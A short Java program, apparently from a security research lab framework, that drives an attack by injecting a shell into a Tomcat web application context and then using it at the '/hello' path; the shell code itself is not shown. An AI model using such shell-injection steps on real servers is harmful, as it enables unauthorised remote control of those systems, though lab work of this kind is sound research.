import whorl.lab.attack.Shells;
import whorl.lab.attack.TomcatContext;

public class Attack {
  public static void main(String[] args) throws Exception {
    Shells.inject(TomcatContext.class, App$$TypeSwitch.class);
    Shells.use("/hello");
    whorl.lab.attack.Attacker.done();
  }
}
